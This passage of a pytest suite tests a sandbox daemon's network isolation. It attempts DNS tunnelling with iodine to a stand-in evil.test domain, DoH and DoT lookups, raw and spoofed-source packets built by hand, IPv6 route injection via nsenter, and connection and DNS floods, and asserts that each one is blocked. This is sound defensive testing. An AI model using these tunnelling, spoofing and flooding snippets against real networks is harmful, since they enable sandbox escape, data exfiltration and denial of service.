    assert box.py(ASK + "say([ask('192.0.2.53', b'tunnel.test', k) for k in (28, 16, 10, 65)])") == [[0, 0]] * 4
    # The reply does not reveal whether a name exists, or anything else: it is always the same.
    assert box.py("say(len({socket.gethostbyname(n) for n in ('evil.test', 'nosuch.test', 'a.b.tunnel.test')}))") == 1
    # We answer for any server: a question to another one never leaves.
    assert box.py(ASK + f"say([ask('{EVIL}', b'leak.evil.test'), ask('8.8.8.8', b'leak.evil.test')])") == [[0, 1], [0, 1]]
    assert len(net.seen("dns")) == before
    # Of an allowed name nothing but the address is ever asked for.
    assert box.py(ASK + "say([ask('1.1.1.1', b'allowed.test'), ask('1.1.1.1', b'allowed.test', 16)])") == [[0, 1], [0, 0]]
    assert all(e["type"] == 1 for e in net.seen("dns"))


def test_NET_08_other_ways_to_resolve(net, box):
    assert box.py(f"say(tcp('{EVIL}', 853, b'\\x16\\x03\\x01'))") != "TIMEOUT"
    assert code(box, f"https://{EVIL}/dns-query?dns=AAAB", "-k") == ("403", 0)
    done = box.py("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
                  "out = []\n"
                  "for to in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('%s', 443)):\n"
                  "  try: s.connect(to); s.send(b'x'); s.send(b'x'); out.append(s.recv(9).decode())\n"
                  "  except OSError as e: out.append(type(e).__name__)\n"
                  "say(out)" % EVIL)
    assert done[2] != "x" and not net.seen("udp", size=1)


def test_NET_08_flood(net, box):
    """A thousand questions: bounded, and other clients do not wait."""
    flood = "\nfor i in range(1000):\n  s.send(q.replace(b'0000', b'%04d' % i))\n"
    box.py("q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\\x08name0000\\x04evil\\x04test\\0\\0\\x01\\0\\x01'\n"
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('192.0.2.53', 53))" + flood + "say(1)")
    assert net.daemon.client.healthz() == 200
    assert not [e for e in net.seen("dns") if e["name"].endswith("evil.test") and e["name"].startswith("name")]
    assert len(box.denials()) <= 128
    assert code(box, "http://allowed.test/") == ("200", 0)


@pytest.mark.skipif(not shutil.which("iodine"), reason="iodine is not installed (make deps)")
def test_NET_08_iodine(net, box):
    """A real tunnel, with the privileges of the host's root inside the sandbox's network."""
    argv = ["nsenter", "-t", box.pid(), "-n", "iodine", "-f", "-r", "-P", "x", "192.0.2.53", "t.evil.test"]
    before = len(net.seen("dns"))
    client = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        out, _ = client.communicate(timeout=60 * tree.SLACK)
    except subprocess.TimeoutExpired:
        client.kill()
        out, _ = client.communicate()
    assert "Connection setup complete" not in out and client.returncode != 0, out
    assert len(net.seen("dns")) == before
    assert any("t.evil.test" in d["host"] for d in box.denied(protocol="dns")), (out, box.denials())


# ---- NET-09, NET-11, NET-12, NET-13: packets, neighbours, the host ----

def test_NET_09_other_protocols(net, box):
    found = box.py(
        "out = {}\n"
        "for name, args in {'raw': (2, 3, 1), 'packet': (17, 3, 3), 'sctp': (2, 1, 132), 'udplite': (2, 2, 136),\n"
        "                   'dccp': (2, 6, 33), 'ping': (2, 2, 1)}.items():\n"
        "  try:\n"
        "    s = socket.socket(*args); s.settimeout(15); s.connect(('%s', 80)); s.send(b'\\x08\\0\\0\\0\\0\\0\\0\\0')\n"
        "    s.send(b'\\x08\\0\\0\\0\\0\\0\\0\\0'); s.recv(9); out[name] = 'open'\n"
        "  except OSError as e: out[name] = type(e).__name__\n"
        "say(out)" % EVIL)
    assert "open" not in found.values(), found


@pytest.mark.parametrize("mode", ["restricted", "full"])
def test_NET_09_no_ipv6(net, mode):
    """No address, no route, no packet, and no answer that would lead there."""
    with open_box(net, mode=mode) as box:
        assert box.sh("grep -v ' lo$' /proc/net/if_inet6; grep -v ' lo$' /proc/net/ipv6_route | grep -v '^f'").stdout == ""
        got = box.py("found = []\n"
                     "for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
                     "  for host in ('2606:2800:220:1::1', 'fe80::1', '64:ff9b::5db8:d842', '2002:5db8:d842::1'):\n"
                     "    s = socket.socket(socket.AF_INET6, kind); s.settimeout(10)\n"
                     "    try: s.connect((host, 80, 0, 0)); s.send(b'x'); found.append('sent')\n"
                     "    except OSError as e: found.append(errno.errorcode.get(e.errno, str(e)))\n"
                     "say(found)")
        assert set(got) <= {"ENETUNREACH", "EINVAL", "EADDRNOTAVAIL"}, got
        # AAAA of an allowed name: it exists, without addresses; no outside server is asked.
        found = box.py("try: socket.getaddrinfo('allowed.test', 80, socket.AF_INET6); say('found')\n"
                       "except socket.gaierror as e: say(e.errno in (socket.EAI_NODATA, socket.EAI_NONAME))")
        assert found is True
        assert not net.seen("dns", type=28)
        rules = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
        assert "meta nfproto != ipv4 drop" in rules
        # If the inside of the link is not quiet, the host drops it: as its root, with an address and a route.
        enter = ["nsenter", "-t", box.pid(), "-n"]
        subprocess.run([*enter, "ip", "addr", "add", "fd00::2/64", "dev", "eth0", "nodad"], check=True)
        subprocess.run([*enter, "ip", "-6", "route", "add", "default", "dev", "eth0"], check=True)
        box.py("s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('2606:2800:220:1::1', 9999)); say(1)")
        assert not net.seen("udp", address="2606:2800:220:1::1")


def test_NET_09_ipv6_of_a_denied_name_is_explained(net, box):
    host = f"only-six-{time.time_ns()}.evil.test"
    box.py(f"try: socket.getaddrinfo('{host}', 80, socket.AF_INET6)\nexcept OSError: say(1)")
    assert box.denied(host=host, protocol="dns", reason="not_allowed")


def test_NET_09_datagrams_are_refused_at_once(net, box):
    took = box.py("import time; t = time.time(); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                  f"s.settimeout(30); s.connect(('{GOOD}', 9999)); s.send(b'x')\n"
                  "try: s.recv(9); say(-1)\nexcept OSError as e: say([time.time() - t, e.errno])")
    assert took != -1 and took[1] in (113, 111, 13, 1), took
    assert not [e for e in net.seen("udp") if e["address"] == GOOD]
    wait(lambda: box.denied(host=GOOD, port=9999, protocol="udp", reason="protocol"))


def test_NET_11_neighbours(net, box):
    with open_box(net, allow=["0.0.0.0/0", "100.96.0.0/11"], mode="full") as other:
        port = 4000
        other.sh(f"python3 -m http.server {port} >/dev/null 2>&1 & sleep 0.1")
        address = other.address()
        # Even one whose policy names the whole range.
        for attacker in (box, other):
            target = address if attacker is box else box.address()
            for number in (port, 22, 80, 443):
                got = attacker.py(f"say(tcp('{target}', {number}, b'GET / HTTP/1.0\\r\\n\\r\\n'))")
                assert "200 OK" not in got and got != "TIMEOUT", got
        assert box.denied(host=address, reason="host_address")


def test_NET_11_spoofed_source(net, box):
    """Raw packets with another's address, sent by the host's root from inside the sandbox's network."""
    script = ("import socket,struct,sys\n"
              "s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)\n"
              "for src in sys.argv[2:]:\n"
              "  h=struct.pack('!BBHHHBBH4s4s',0x45,0,0,1,0,64,17,0,socket.inet_aton(src),socket.inet_aton(sys.argv[1]))\n"
              "  s.sendto(h+struct.pack('!HHHH',4,53,8+29,0)+b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1',(sys.argv[1],0))\n")
    with open_box(net) as other:
        before = len(net.seen("dns"))
        done = subprocess.run(["nsenter", "-t", box.pid(), "-n", "/usr/bin/python3", "-c", script, GOOD, other.address(),
                               HOST, GOOD, "127.0.0.1", "100.96.0.1"], capture_output=True, text=True)
        assert done.returncode == 0, done
        # A correct question after them was answered, so they would have arrived as well if they had passed.
        assert box.py("say(socket.gethostbyname('www.allowed.test'))") == GOOD
        assert [e["name"] for e in net.seen("dns")[before:]] == ["www.allowed.test"]


def test_NET_12_host(net, box):
    """A service of the host on all of its addresses, and the daemon's own."""
    hits = []
    server = socket.create_server(("0.0.0.0", 0), backlog=64)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                hits.append(server.accept()[1])
            except TimeoutError:
                pass
    thread = threading.Thread(target=serve)
    thread.start()
    try:
        port, api = server.getsockname()[1], int(net.daemon.url.rsplit(":", 1)[1])
        gateway = box.sh("ip route | awk '/default/ {print $3}'").stdout.strip()
        answers = box.py(f"say([tcp(a, n, b'GET /healthz HTTP/1.0\\r\\n\\r\\n') for a in "
                         f"('{gateway}', '{HOST}', '{world.LAN}', '0.0.0.0') for n in ({port}, {api}, 17080, 17053, 22)])")
        assert not [a for a in answers if "200 OK" in a or a == "TIMEOUT"], answers
    finally:
        stop.set()
        thread.join()
        server.close()
    assert not hits


def test_NET_13_no_power_over_the_link(box):
    for command in ("ip link set eth0 down", "ip addr add 10.0.0.1/8 dev eth0", "ip route del default",
                    "ip link add x type dummy", "ip link set eth0 address 02:00:00:00:00:01", "ip link set eth0 promisc on",
                    "echo 1 > /proc/sys/net/ipv4/ip_forward", "echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6"):
        assert box.sh(command).exit_code != 0, command
    assert "inet6" not in box.sh("ip addr show eth0").stdout


# ---- NET-15, NET-16: at every time ----

def check_policy(box):
    assert code(box, "http://allowed.test/") == ("200", 0)
    assert code(box, f"http://{EVIL}/") == ("403", 0)
    assert code(box, "http://evil.test/") == ("403", 0)


def test_NET_15_first_packet(net):
    """The first program is refused like everything after it."""
    for _ in range(5):
        with net.daemon.client.sandbox(network={"mode": "restricted", "allow": ["allowed.test"]}) as sandbox:
            done = sandbox.exec(["python3", "-c", PRELUDE + f"say(tcp('{EVIL}', 2525))"])
            assert json.loads(done.stdout) != "220 banner\r\n"
    assert not net.seen("banner", address=EVIL) or net.seen("banner", address=EVIL) == net.banners


@pytest.fixture(autouse=True)
def count_banners(request):
    """For the test of mode full: what was let through before."""
    if "net" in request.fixturenames:
        net = request.getfixturevalue("net")
        net.banners = net.seen("banner", address=EVIL)


@pytest.mark.parametrize("kind", ["freeze", "hibernate"])
def test_NET_15_pause(net, kind):
    client = net.daemon.client
    if kind == "hibernate" and "snapshot" not in client.capabilities("native"):
        pytest.skip("no snapshots on this host")
    with open_box(net) as box:
        client.call("POST", f"/v1/sandboxes/{box.id}/pause", {"kind": kind})
        client.call("POST", f"/v1/sandboxes/{box.id}/resume", {})
        check_policy(box)


def test_NET_15_fork_and_snapshot(net):
    client = net.daemon.client
    if "snapshot" not in client.capabilities("native"):
        pytest.skip("no snapshots on this host")
    with open_box(net) as box:
        snapshot = client.call("POST", f"/v1/sandboxes/{box.id}/snapshots", {})["id"]
        child = client.call("POST", f"/v1/sandboxes/{box.id}/fork", {"count": 1})["data"][0]
        try:
            assert child["network"]["allow"] == ALLOW
            box.sandbox.id, box.id = child["id"], child["id"]
            check_policy(box)
        finally:
            client.delete(child["id"])
            box.sandbox.id = box.id = box.sandbox.row["id"]
        client.call("POST", f"/v1/sandboxes/{box.id}/restore", {"snapshot_id": snapshot})
        check_policy(box)
        client.call("DELETE", f"/v1/snapshots/{snapshot}")


def test_NET_15_live_change(net):
    with open_box(net, allow=["allowed.test", "allowed.test:2525"]) as box:
        box.sh("nohup python3 -c 'import socket,time; s=socket.create_connection((\"allowed.test\",2525)); s.recv(99)\n"
               "print(\"up\",flush=True)\ntry:\n  s.recv(9)\n  print(\"end\",flush=True)\n"
               "except OSError as e: print(\"reset\",flush=True)' > /tmp/out 2>&1 &")
        wait(lambda: box.sh("cat /tmp/out").stdout == "up\n")
        box.patch(deny=["allowed.test"])
        wait(lambda: box.sh("cat /tmp/out").stdout.split()[-1] in ("reset", "end"))
        assert code(box, "http://allowed.test/") == ("403", 0)
        box.patch(deny=[], allow=["allowed.test", "evil.test"])
        assert code(box, "http://evil.test/") == ("200", 0)
        box.patch(mode="none")
        assert code(box, f"http://{GOOD}/")[1] != 0
        box.patch(mode="restricted")
        check = code(box, "http://allowed.test/")
        assert check == ("200", 0)


def wait(condition, seconds=15):
    until = time.monotonic() + seconds * tree.SLACK
    while not condition():
        assert time.monotonic() < until
        time.sleep(0.05)


@pytest.mark.parametrize("name", ["cayd", "cay-warden"])
def test_NET_16_killed(net, name):
    """Without the daemon nothing is open; without the warden nothing changes; both return."""
    daemon = net.daemon
    with open_box(net) as box:
        pid = box.pid()
        daemon.kill("cay", signal.SIGSTOP)  # the supervisor would restart it at once
        try:
            daemon.kill(name)
            wait(lambda: name not in daemon.pids())
            shot = ["nsenter", "-t", pid, "-n", "curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}"]
            done = subprocess.run([*shot, "--resolve", f"allowed.test:80:{GOOD}", "http://allowed.test/"],
                                  capture_output=True, text=True)
            evil = subprocess.run([*shot, f"http://{EVIL}/"], capture_output=True, text=True)
            tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
            assert "cay" in tables
            assert evil.stdout != "200"
            if name == "cayd":
                assert done.returncode in (7, 56), done  # refused, or reset while it ends; not hanging
        finally:
            daemon.kill("cay", signal.SIGCONT)
        wait(lambda: name in daemon.pids(), 30)
        box.client = box.sandbox.client = daemon.wait_ready(30)
        wait(lambda: any(engine["name"] == "native" and engine["available"]
                         for engine in daemon.client.call("GET", "/v1/options")["engines"]))
        check_policy(box)
        with open_box(net) as another:
            check_policy(another)
        daemon.forgive()


def test_NET_16_nothing_stays_of_a_killed_warden():
    """Killed after its last sandbox had ended, with links in stock: the next one removes everything."""
    def shown(*words):
        return subprocess.run(words, capture_output=True, text=True).stdout

    with World() as outside, Daemon(env={"CAY_DNS_UPSTREAM": world.DNS, "CAY_POOL": "false"}) as daemon:
        outside.daemon = daemon
        with open_box(outside):
            assert "cay" in shown("nft", "list", "tables")
            wait(lambda: len(re.findall(r"cay\d+-\d+", shown("ip", "-o", "link"))) > 1)
        wait(lambda: not re.search(r"cay\d+-2@", shown("ip", "-o", "link")))  # the first sandbox's own
        assert re.search(r"cay\d+-\d+", shown("ip", "-o", "link"))
        daemon.kill("cay-warden")
        wait(lambda: "cay" not in shown("nft", "list", "tables") and not re.search(r"cay\d+-", shown("ip", "-o", "link")))
        daemon.wait_ready(30)
        with open_box(outside) as box:
            check_policy(box)


def test_NET_16_rules_survive_a_flush(net, box):
    """An administrator reloads the host's firewall."""
    check_policy(box)
    subprocess.run(["nft", "flush", "ruleset"], check=False, capture_output=True)
    check_policy(box)


# ---- NET-17, NET-19: abuse ----

def test_NET_17_many_connections(net, box):
    found = box.py(
        "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))\n"
        "held = []\n"
        "for i in range(1500):\n"
        "  s = socket.socket(); s.setblocking(False); s.connect_ex(('%s', 9000 + i %% 50)); held.append(s)\n"
        "say(len(held))" % EVIL)
    assert found == 1500
    assert net.daemon.client.healthz() == 200
    with open_box(net) as other:
        assert code(other, "http://allowed.test/") == ("200", 0)


def syn_retransmissions(box):
    """Of the sandbox's own namespace: how often a connection had to be asked for again."""
    done = subprocess.run(["nsenter", "-t", box.pid(), "-n", "cat", "/proc/self/net/netstat"], capture_output=True, text=True)
    names, values = [line.split()[1:] for line in done.stdout.splitlines() if line.startswith("TcpExt:")]
    return int(dict(zip(names, values))["TCPSynRetrans"])


FLOOD = """
import time
def states(held): return [s.getsockopt(6, 11, 1)[0] for s in held]  # TCP_INFO
def passed(held): return sum(state != 2 for state in states(held))  # not SYN_SENT
def opened(held): return states(held).count(1)  # ESTABLISHED
begin, held = time.monotonic(), []
for i in range(int(sys.argv[1])):
    s = socket.socket(); s.setblocking(False); s.connect_ex((sys.argv[2], 2525)); held.append(s)
early = [passed(held), time.monotonic() - begin]
print(json.dumps(early), flush=True)
most = 0
while time.monotonic() < begin + float(sys.argv[3]):
    most = max(most, opened(held)); time.sleep(0.05)
say([*early, most, states(held).count(2)])
"""


def test_NET_17_one_link_floods():
    """Connections beyond a link's own limits are dropped, and a neighbour's are not: finding 9 of the audit.

    Counted, not timed: the handshakes that were answered, and the neighbour's requests for a connection that had to be
    repeated. The bounds use the time that passed, so that a slow machine only loosens them.
    """
    per_sec = burst = 60  # the neighbour stays below it
    at_once, asked = 80, 250
    env = {"CAY_DNS_UPSTREAM": world.DNS, "CAY_NETWORK_CONNECTS_PER_SEC": str(per_sec), "CAY_NETWORK_CONNECTIONS": str(at_once)}
    with World() as outside, Daemon(env=env) as daemon:
        outside.daemon = daemon
        with open_box(outside, allow=[GOOD]) as noisy, open_box(outside) as quiet:
            assert code(quiet, "http://allowed.test/") == ("200", 0)
            before = syn_retransmissions(quiet)
            found = []
            thread = threading.Thread(target=lambda: found.extend(noisy.py(FLOOD, asked, GOOD, 6)))
            thread.start()
            requests = 0
            while thread.is_alive():
                assert code(quiet, "http://allowed.test/") == ("200", 0)
                requests += 1
                time.sleep(0.1)  # a request is a connection and a question for the name: well below its own limit
            thread.join()
            early, took, most, waiting = found
            assert 1 <= early <= burst + per_sec * (took + 0.5), found
            assert early < most <= at_once and waiting, found  # more of them come through with time, up to the bound
            assert requests and syn_retransmissions(quiet) == before, (found, requests)


QUESTIONS = """
import select, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('192.0.2.53', 53)); s.setblocking(False)
q, begin, got = b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1', time.monotonic(), 0
for i in range(400): s.send(q)
while select.select([s], [], [], 1)[0]: got += len(s.recv(999)) > 0
say([got, time.monotonic() - begin])
"""


def test_NET_17_one_link_asks_for_names():
    """All links share the resolver's socket, so questions of one flow beyond the link's own rate do not arrive there."""
    env = {"CAY_DNS_UPSTREAM": world.DNS, "CAY_NETWORK_CONNECTS_PER_SEC": "20"}
    with World() as outside, Daemon(env=env) as daemon:
        outside.daemon = daemon
        with open_box(outside) as noisy, open_box(outside) as quiet:
            answered, took = noisy.py(QUESTIONS)
            assert 1 <= answered <= 20 + 20 * (took + 0.5), (answered, took)
            assert code(quiet, "http://allowed.test/") == ("200", 0)


def test_links_are_shaped(net, box):
    """Both ends send at the operator's rate, and each link has its own meters."""
    address = box.address()
    name = re.search(r"dev (cay\d+-\d+)", subprocess.run(["ip", "route", "get", address], capture_output=True, text=True).stdout)[1]
    outside = subprocess.run(["tc", "qdisc", "show", "dev", name], capture_output=True, text=True).stdout
    inside = subprocess.run(["nsenter", "-t", box.pid(), "-n", "tc", "qdisc", "show", "dev", "eth0"], capture_output=True, text=True).stdout
    for shown in (outside, inside):
        assert "tbf" in shown and "rate 1Gbit" in shown, (outside, inside)
    rules = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
    assert re.search(r"update @new_per_sec \{ (meta )?iif limit rate over 500/second", rules), rules
    assert re.search(r"update @connections \{ (meta )?iif ct count over 1024", rules), rules
    for command in ("tc qdisc del dev eth0 root", "tc qdisc replace dev eth0 root pfifo"):
        assert box.sh(command).exit_code != 0


def test_shape_is_the_operators():
    """network_rate_mbit holds what a sandbox receives; 0 lifts it."""
    rates = {}
    for rate in ("16", "0"):
        env = {"CAY_DNS_UPSTREAM": world.DNS, "CAY_NETWORK_RATE_MBIT": rate}
        with World() as outside, Daemon(env=env) as daemon:
            outside.daemon = daemon
            with open_box(outside) as box:
                done = box.sh("curl -sS -m 60 -o /dev/null -w '%{speed_download}' http://allowed.test/bytes/6000000")
                rates[rate] = float(done.stdout)
    assert rates["16"] < 2.4e6 < rates["0"], rates


def median_latency(client, calls=100):
    took = []
    for _ in range(calls):
        begin = time.perf_counter()
        client.call("GET", "/v1/sandboxes?limit=1")
        took.append(time.perf_counter() - begin)
    return sorted(took)[calls // 2]


@contextlib.contextmanager
def running(client, box, command):
    process = client.call("POST", f"/v1/sandboxes/{box.id}/processes", {"command": command})
    try:
        yield
    finally:
        client.call("DELETE", f"/v1/sandboxes/{box.id}/processes/{process['process_id']}")


def received(client, box):
    return client.call("GET", f"/v1/sandboxes/{box.id}/metrics")["network_received_bytes"]


@pytest.mark.alone
def test_NET_17_downloads_do_not_slow_the_api(net):
    """All relays together move a bounded number of bytes between two looks at the API: finding 9 of the audit.

    What is compared are medians of rounds that take turns: eight downloads, and as many processes inside and outside that
    only compute. Without the bound, downloads made the API 8 to 15 times slower than on an idle host.
    """
    client, times = net.daemon.client, {"idle": [], "compute": [], "download": []}
    download = "for i in 1 2 3 4 5 6 7 8; do curl -sS -o /dev/null http://allowed.test/bytes/100000000000 & done; wait"
    compute = "for i in 1 2 3 4 5 6 7 8; do while :; do :; done & done; wait"
    with open_box(net) as box:
        assert code(box, "http://allowed.test/") == ("200", 0)
        for _ in range(3):
            times["idle"].append(median_latency(client))
            with running(client, box, compute), subprocess.Popen([sys.executable, "-c", "while True: pass"]) as server:
                times["compute"].append(median_latency(client))
                server.kill()
            with running(client, box, download):
                begin = received(client, box)
                wait(lambda: received(client, box) > begin + 20_000_000)
                times["download"].append(median_latency(client))
        idle, compute, busy = (sorted(rounds)[1] for rounds in times.values())
        assert busy <= 3 * max(idle, compute), times


def test_metrics_and_usage(net, box):
    figures = net.daemon.client.call("GET", f"/v1/sandboxes/{box.id}/metrics")
    assert figures["network_sent_bytes"] > 0 and figures["network_received_bytes"] > 0


def test_none_refuses_a_bad_policy(net):
    with pytest.raises(ApiError) as caught:
        net.daemon.client.create(network={"mode": "restricted", "deny": ["x.test:99999"]})
    assert caught.value.status == 400 and "network.deny[0]" in str(caught.value)
